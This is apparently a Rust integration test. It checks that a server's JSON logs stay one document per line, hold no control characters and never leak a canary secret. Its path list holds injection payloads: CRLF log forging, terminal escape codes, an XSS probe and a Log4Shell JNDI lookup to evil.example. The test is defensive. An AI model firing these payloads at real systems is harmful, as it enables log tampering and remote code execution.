//! The log of the real program: one JSON document a line, whatever is asked for.

use std::fs::File;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpStream;
use std::process::{Command, Stdio};

use belvedere_platform::store::{Options, Store};
use serde_json::Value;
use tempfile::TempDir;

/// What must not be in any log.
const CANARY: &str = "canary-7f3a";

/// Paths with what could break a line or a terminal.
const PATHS: [&str; 20] = [
    "/a%0ab",
    "/a%0d%0aINFO%20all%20is%20well",
    "/%1b%5b31mred",
    "/%1b%5d0;title%07",
    "/%00",
    "/%7f",
    "/%c2%9b31m",
    "/%e2%80%ae-backwards",
    "/%e2%80%a8",
    "/%ef%bb%bf",
    "/\"quoted\"",
    "/{\"level\":\"ERROR\"}",
    "/back\\slash",
    "/'",
    "/<script>alert(1)</script>",
    "/${jndi:ldap://evil.example/a}",
    "/%25s%25n",
    "/=cmd",
    "/\t",
    "/\u{e9}\u{202e}",
];

#[test]
fn every_line_is_one_document_without_secrets() {
    let folder = TempDir::new().unwrap();
    let data = folder.path().join("data");
    drop(Store::create(&data, Vec::new(), Options::default()).unwrap());
    let path = folder.path().join("log");
    let mut child = Command::new(env!("CARGO_BIN_EXE_belvedere-platform"))
        .args(["serve", "--port", "0", "--data"])
        .arg(&data)
        .stdout(Stdio::piped())
        .stderr(File::create(&path).unwrap())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let stdout = child.stdout.take().unwrap();
    BufReader::new(stdout).read_line(&mut line).unwrap();
    let port: u16 = line
        .trim_end_matches("/\n")
        .rsplit(':')
        .next()
        .unwrap()
        .parse()
        .unwrap();

    let mut answers = 0;
    for path in PATHS {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
        let request = format!(
            "POST {path}?code={CANARY} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\
             Authorization: Bearer {CANARY}\r\nReadToken: {CANARY}\r\nContent-Length: {}\r\n\r\n{CANARY}",
            CANARY.len()
        );
        // In one piece: what is no request at all is refused while later pieces would still be on their way.
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        // What is no request at all is refused by the HTTP library, and not logged.
        answers += usize::from(answer.windows(13).any(|part| part == b"RouteNotFound"));
    }
    assert!(answers >= 15, "{answers}");
    child.kill().unwrap();
    child.wait().unwrap();

    let log = std::fs::read_to_string(&path).unwrap();
    assert!(!log.contains(CANARY), "{log}");
    let mut logged = 0;
    for line in log.lines() {
        assert!(
            line.chars().all(|character| !character.is_control()),
            "{line:?}"
        );
        let document: Value = serde_json::from_str(line).unwrap();
        assert!(
            document["timestamp"].is_string() && document["level"].is_string(),
            "{line}"
        );
        logged += usize::from(document["status"] == 404);
    }
    assert_eq!(logged, answers, "{log}");
}
